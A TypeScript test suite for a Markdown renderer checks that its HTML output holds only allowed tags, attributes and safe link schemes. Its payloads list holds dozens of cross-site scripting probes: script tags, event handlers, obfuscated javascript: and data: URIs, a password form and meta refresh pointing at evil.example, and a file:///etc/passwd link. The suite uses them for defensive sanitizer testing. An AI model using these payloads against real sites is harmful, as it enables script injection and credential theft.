import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import { markdownLimit, renderMarkdown } from './markdown.ts'

const markdown = suite('markdown')
const htmlOf = (text: string) => renderMarkdown(text).html

/** What may come out, and with which attributes. */
const allowed: Record<string, string[]> = {
  a: ['href', 'rel', 'target'],
  ...Object.fromEntries(
    'p h3 h4 em strong code pre ul ol li blockquote br hr'.split(' ').map((name) => [name, []]),
  ),
}

/** Reads HTML by a grammar of its own: whatever is not text, an allowed tag or a known entity is an error. */
function check(html: string): void {
  const links: string[] = []
  const open: string[] = []
  let at = 0
  while (at < html.length) {
    const rest = html.slice(at)
    const text = /^(?:[^<>&"']|&(?:amp|lt|gt|quot|#39);)+/.exec(rest)
    const tag = /^<(\/?)([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)>/.exec(rest)
    if (!text && !tag) throw new Error(`neither text nor tag: ${rest.slice(0, 80)}`)
    at += (text ?? tag)![0].length
    if (!tag) continue
    const [, slash, name = '', attributes = ''] = tag
    if (!allowed[name]) throw new Error(`a tag ${name}`)
    if (slash && open.pop() !== name) throw new Error(`</${name}> out of order`)
    if (!slash && name !== 'br' && name !== 'hr') open.push(name)
    for (const [, key = '', value = ''] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
      if (!allowed[name].includes(key)) throw new Error(`${name} with ${key}`)
      if (key === 'href') links.push(value.replaceAll('&amp;', '&'))
    }
  }
  if (open.length > 0) throw new Error(`${open} stay open`)
  for (const link of links)
    if (!/^(?:https?:\/\/[^/@]+(?:\/|$)|mailto:)/.test(link)) throw new Error(`a link to ${link}`)
}

markdown('makes paragraphs, headings, emphasis, lists, quotes, code, rules and breaks [PROF-02]', () => {
  assert.is(htmlOf('# One\n## Two\n###### Six'), '<h3>One</h3>\n<h4>Two</h4>\n<h4>Six</h4>')
  assert.is(htmlOf('*a* **b** `c<d`'), '<p><em>a</em> <strong>b</strong> <code>c&lt;d</code></p>')
  assert.is(htmlOf('- a\n- b'), '<ul><li>a</li><li>b</li></ul>')
  assert.is(htmlOf('1. a\n\n2. b'), '<ol><li><p>a</p></li><li><p>b</p></li></ol>')
  assert.is(htmlOf('> a\n>\n> b'), '<blockquote><p>a</p>\n<p>b</p></blockquote>')
  assert.is(htmlOf('```js\na && b\n```'), '<pre><code>a &amp;&amp; b</code></pre>')
  assert.is(htmlOf('a  \nb\n\n---'), '<p>a<br>b</p>\n<hr>')
  assert.is(
    htmlOf('- a\n\n  - b\n\n    c'),
    '<ul><li><p>a</p>\n<ul><li><p>b</p>\n<p>c</p></li></ul></li></ul>',
  )
  assert.is(htmlOf(' \n\t'), '')
})

markdown('makes whole web and mail addresses links that lend no weight, and pictures links [PROF-02]', () => {
  const safe = 'rel="nofollow ugc noopener noreferrer" target="_blank"'
  assert.is(
    htmlOf('[x](https://a.example/b?c=1&d=2 "t")'),
    `<p><a href="https://a.example/b?c=1&amp;d=2" ${safe}>x</a></p>`,
  )
  assert.is(htmlOf('<a@b.example>'), `<p><a href="mailto:a@b.example" ${safe}>a@b.example</a></p>`)
  assert.is(htmlOf('![p](http://a.example/p.png)'), `<p><a href="http://a.example/p.png" ${safe}>p</a></p>`)
  // A link in a link is none.
  assert.is(
    htmlOf('[![p](http://a.example/p.png)](http://b.example)'),
    `<p><a href="http://b.example/" ${safe}>p</a></p>`,
  )
  for (const bare of [
    '/login',
    '//a.example',
    'a.example',
    '#top',
    'ftp://a.example',
    'https://me:pw@a.example',
  ])
    assert.is(htmlOf(`[x](${bare})`), '<p>x</p>', bare)
})

const tab = '\t'
const nul = String.fromCharCode(0)
const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{display:none}</style>',
  '<form action=//evil.example><input name=password>',
  '<base href="//evil.example">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php echo 1 ?>',
  '<x onclick=alert(1)>y</x>',
  '</p></div><script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6a;&#x61;vascript:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](java&NewLine;script:alert(1))',
  `[x](<java${tab}script:alert(1)>)`,
  `[x](<${tab}javascript:alert(1)>)`,
  `[x](<java${nul}script:alert(1)>)`,
  '[x](\u0001javascript:alert(1))',
  '[x](\u00a0javascript:alert(1))',
  '[x](\u200bjavascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](view-source:javascript:alert(1))',
  '[x](blob:https://a.example/1)',
  '[x](file:///etc/passwd)',
  '[x](https:javascript:alert(1))',
  '[x](https://a.example"onmouseover="alert(1))',
  "[x](https://a.example'onmouseover='alert(1))",
  '[x](<https://a.example" onmouseover="alert(1)>)',
  '[x](https://a.example "t" onclick=alert(1))',
  '[x](https://a.example/"><script>alert(1)</script>)',
  '[<script>alert(1)</script>](https://a.example)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![" onerror="alert(1)](https://a.example/x.png)',
  '![<img src=x onerror=alert(1)>](https://a.example)',
  '![x]("onerror="alert(1))',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '<vbscript:x>',
  '<https://a.example/"onclick="alert(1)>',
  '`<img src=x onerror=alert(1)>`',
  '```"><script>\n</code></pre><script>alert(1)</script>\n```',
  '    <script>alert(1)</script>',
  '# <script>alert(1)</script>',
  '- <img src=x onerror=alert(1)>',
  '> <script>\n> alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<script>alert(1)\\</script>',
  'a <b',
  '"\'><&;',
  '[a](https://a.example/\\"onclick=alert\\(1\\))',
  'https://a.example/<script>',
]

markdown('lets no tag, attribute or address out that is not its own [PROF-02] [SEC-03]', () => {
  for (const payload of payloads) {
    check(htmlOf(payload))
    check(htmlOf(`**[${payload}](https://a.example)**`))
    check(htmlOf(`> - ${payload}\n\n![${payload}](https://a.example)`))
  }
  check(htmlOf(payloads.join('\n\n')))
  check(htmlOf(payloads.join('')))
  // The reader itself refuses what it must.
  for (const bad of ['<script>', '<a onclick="x">', '<p', 'a"b', '<a href="javascript:x">x</a>', '<p>'])
    assert.throws(() => check(bad))
})

markdown('reads neither HTML, nor references, nor headings by a line below', () => {
  assert.is(htmlOf('<div>\n**x**\n</div>'), '<p>&lt;div&gt;\n<strong>x</strong>\n&lt;/div&gt;</p>')
  assert.is(htmlOf('[x]: https://a.example\n\n[x]'), '<p>[x]: https://a.example</p>\n<p>[x]</p>')
  assert.is(htmlOf('a\n==='), '<p>a\n===</p>')
})

markdown('drops signs that turn the direction of text or steer a display', () => {
  assert.is(htmlOf('a\u202eb\u0007c\u2066d\u009be'), '<p>abcde</p>')
  assert.is(htmlOf('a\r\nb\rc'), '<p>a\nb\nc</p>')
})

markdown('shows a text too long or too entangled to be read as it was written [PROF-02]', () => {
  const long = `<b>**x**\n\n${'y'.repeat(markdownLimit)}`
  assert.is(htmlOf(long), `<p>&lt;b&gt;**x**</p>\n<p>${'y'.repeat(markdownLimit)}</p>`)
  assert.is(htmlOf(`${'>'.repeat(50)}a`), `<p>${'&gt;'.repeat(50)}a</p>`)
  assert.match(htmlOf('_*'.repeat(1000)), /^<p>_\*_\*/)
})

markdown('nests no deeper than twenty elements, and keeps the text', () => {
  const html = htmlOf(
    Array.from({ length: 30 }, (_none, depth) => `${'  '.repeat(depth)}- l${depth}`).join('\n'),
  )
  check(html)
  assert.match(html, 'l29')
  assert.is(html.split('<ul>').length - 1, 10)
})

markdown('reads whatever is repeated [PROF-02]', () => {
  const pieces = [
    '[',
    '*',
    '>',
    '`',
    '![',
    '_*',
    '**',
    '[a](',
    '](',
    '1. ',
    '- ',
    '> ',
    '<',
    '&',
    '<!--',
    '\\',
  ]
  const lines = [
    'a\n=\n',
    '- a\n',
    '[x]: y\n',
    '~~~\n',
    'a  \n',
    '\t',
    '\n',
    '# # ',
    '>>>>>>>>a\n',
    '<a@',
    '`a',
    '| ',
  ]
  for (const piece of [...pieces, ...lines]) {
    check(htmlOf(piece.repeat(100_000 / piece.length)))
    check(htmlOf(piece.repeat(markdownLimit / piece.length)))
  }
  check(htmlOf(Array.from({ length: 140 }, (_none, depth) => `${' '.repeat(depth)}- a`).join('\n')))
})

markdown.run()
